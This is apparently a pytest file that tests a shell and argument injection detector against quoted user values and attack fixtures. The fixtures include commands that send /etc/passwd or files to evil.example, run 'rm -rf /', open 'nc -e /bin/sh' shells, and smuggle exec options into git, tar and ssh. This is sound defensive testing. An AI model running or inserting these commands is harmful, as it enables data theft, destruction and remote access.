"""Shell and command injection: user values that add shell syntax, pick the program or add an
option fire; properly quoted values and plain file arguments do not."""

from __future__ import annotations

import shlex

import pytest

from bastion.detect.shellinject import CommandLine, argv_injected, injected

# Values users send, many of them shell-looking: quoted properly they are plain text.
USER_VALUES = [
    "report.pdf", "my file.png", "it's mine", "; cat /etc/passwd", "$(id)", "`whoami`",
    "a && rm -rf /", "x | nc evil.example 4444", "> /etc/cron.d/x", "line1\nline2", "café",
    "東京.txt", "-rf", "--output=/etc/x", "$HOME", "#comment", "{a,b}", "*.txt", "~root",
    'say "hi"', "back\\slash", "100%", "",
]
VALUES = [v for v in USER_VALUES if v]


def shell_lines(value: str) -> list[str]:
    """Command lines applications build with shlex.quote around the user's value."""
    q = shlex.quote(value)
    return [
        f"grep -F -- {q} /srv/catalog.txt",
        f"convert {q} /srv/out/thumb.png",
        f"ls -la /srv/uploads/{q}",
        f"echo {q} | tr a-z A-Z > /tmp/upper.txt",
        f"tar -czf /tmp/backup.tgz -C /srv/data -- {q}",
        f"sh -c {shlex.quote('wc -c ' + q)}",  # nested quoting for a nested shell
    ]


LEGITIMATE_SHELL = [(line, value) for value in VALUES for line in shell_lines(value)]
# Values that need no quoting, in the ways applications also write them.
PLAIN_SHELL = [
    ("ping -c 1 example.com", "example.com"),
    ('echo "Hello world" >> /var/log/app.log', "Hello world"),
    ('echo "it\'s fine"', "it's fine"),
    ("git log --author=alice --oneline", "alice"),
    ("ffmpeg -i /srv/in/video.mp4 -vf scale=640:-1 /srv/out/video.mp4", "video.mp4"),
    ("du -sh /srv/users/1234", "1234"),
    ("FOO=bar /usr/local/bin/tool --name=report", "report"),
    ("cat /srv/data/2024-03.csv # monthly", "monthly"),  # inside the app's comment
    ("ls /srv/uploads/*.png", "uploads"),
    ("zip -r /tmp/out.zip /srv/projects/alpha", "alpha"),
]


@pytest.mark.parametrize(("line", "value"), LEGITIMATE_SHELL + PLAIN_SHELL)
def test_quoted_values_pass(line: str, value: str) -> None:
    assert not injected(line, value)


SHELL_ATTACKS = [
    ("ping -c1 8.8.8.8; cat /etc/passwd", "8.8.8.8; cat /etc/passwd"),
    ("echo $(id)", "$(id)"),
    ("echo `id`", "`id`"),
    ("cat report.txt | nc evil.example 4444", "report.txt | nc evil.example 4444"),
    ("ls a && rm -rf /", "a && rm -rf /"),
    ("host x || curl http://evil.example/", "x || curl http://evil.example/"),
    ("echo a\nid", "a\nid"),
    ("echo hi > /etc/cron.d/x", "hi > /etc/cron.d/x"),
    ("mail admin < /etc/passwd", "admin < /etc/passwd"),
    ("echo 'x'; id; echo ''", "x'; id; echo '"),
    ('echo "$(whoami)"', "$(whoami)"),
    ('echo ""; id; ""', '"; id; "'),
    ("cat${IFS}/etc/passwd", "${IFS}/etc/passwd"),
    ("ping x & whoami", "x & whoami"),
    ("backup data # --dry-run", "data #"),
    ("whoami --version", "whoami"),
    ("/bin/sh -i", "/bin/sh"),
    ("sh -c 'convert a.png; id out.png'", "a.png; id"),
    ("ls {cat,/etc/passwd}", "{cat,/etc/passwd}"),
    ("echo $HOME", "$HOME"),
    ("ls /srv/uploads/a b", "a b"),  # an unquoted space adds an argument
    ("eval 'echo x; id'", "x; id"),
    ("cat <(id)", "<(id)"),
]


@pytest.mark.parametrize(("line", "value"), SHELL_ATTACKS)
def test_shell_syntax_from_the_user_fires(line: str, value: str) -> None:
    assert injected(line, value)


def test_value_must_be_in_the_line() -> None:
    assert not injected("ls /srv", "; id")


def test_command_line_records_words_programs_and_scripts() -> None:
    line = CommandLine("A=1 ls 'a b' | sh -c 'id' > out")
    assert line.values == ["A=1", "ls", "a b", "sh", "-c", "id", "out"]
    assert {line.values[w] for w in line.programs} == {"ls", "sh"}
    assert {line.values[w] for w in line.scripts} == {"id"}


# ---------------------------------------------------------------------- argv

FILE_NAMES = [
    "report.pdf", "my photo.jpg", "résumé.docx", "数据.csv", "a;b.txt", "$(id).txt",
    "it's.png", "x y z", "back`tick`.txt", "2024/03/report.pdf", "-", "e-mail.txt",
]


def argvs(value: str) -> list[list[str]]:
    """Argument lists applications build with a user's file name or text."""
    return [
        ["convert", f"/srv/uploads/{value}", "/srv/out/thumb.png"],
        ["grep", "-F", "--", value, "/srv/catalog.txt"],
        ["git", "log", f"--author={value}"],
        ["ffmpeg", "-i", value, "-f", "mp4", "/srv/out/video.mp4"],
        ["sh", "-c", 'wc -c "$1"', "sh", value],  # the value as a positional parameter
        ["rm", "--", value],
    ]


LEGITIMATE_ARGV = [(argv, value) for value in FILE_NAMES for argv in argvs(value)] + [
    (["grep", "-F", "--", "-v", "/srv/catalog.txt"], "-v"),  # after "--": not an option
    (["head", "-n", "-5", "/srv/log.txt"], "-5"),  # a negative number
    (["cmd", "/c", "type", "report.txt"], "report.txt"),
    (["bash", "-c", "wc -c report.txt"], "report.txt"),
    (["convert", "/srv/x.png", "-resize", "50%", "/srv/y.png"], "50%"),
]


@pytest.mark.parametrize(("argv", "value"), LEGITIMATE_ARGV)
def test_file_arguments_pass(argv: list[str], value: str) -> None:
    assert not argv_injected(argv, value)


ARGV_ATTACKS = [
    (["find", "/srv", "-name", "-exec"], "-exec"),
    (["curl", "-s", "--output=/etc/x"], "--output=/etc/x"),
    (["bash", "--version"], "bash"),
    (["/usr/bin/../../bin/sh"], "../../bin/sh"),
    (["git", "clone", "--upload-pack=touch /tmp/pwn", "repo"], "--upload-pack=touch /tmp/pwn"),
    (["tar", "-xf", "a.tar", "--checkpoint-action=exec=sh"], "--checkpoint-action=exec=sh"),
    (["rsync", "-e sh x", "/backup"], "-e sh x"),
    (["sh", "-c", "ls x; id"], "x; id"),
    (["cmd", "/c", "type", "x & whoami"], "x & whoami"),
    (["sudo", "whoami"], "whoami"),
    (["env", "A=1", "/bin/sh"], "/bin/sh"),
    (["timeout", "5", "nc", "-e", "/bin/sh"], "nc"),
    (["ssh", "-oProxyCommand=id", "host"], "-oProxyCommand=id"),
    (["wget", "--post-file=/etc/passwd", "https://evil.example/"], "--post-file=/etc/passwd"),
    (["python3", "-cimport os"], "-cimport os"),
    (["bash", "-lc", "echo $(id)"], "$(id)"),
    (["powershell", "-Command", "Get-Item x; whoami"], "x; whoami"),
    (["C:\\Windows\\System32\\cmd.exe", "/c", "dir"], "C:\\Windows\\System32\\cmd.exe"),
]


@pytest.mark.parametrize(("argv", "value"), ARGV_ATTACKS)
def test_program_option_and_script_injection_fires(argv: list[str], value: str) -> None:
    assert argv_injected(argv, value)


def test_option_written_by_the_app_with_a_user_value_passes() -> None:
    assert not argv_injected(["curl", "--output=/srv/out/report.pdf"], "report.pdf")
    assert not argv_injected(["tar", "-czf", "/tmp/a.tgz", "-C", "/srv/data", "x"], "/srv/data")
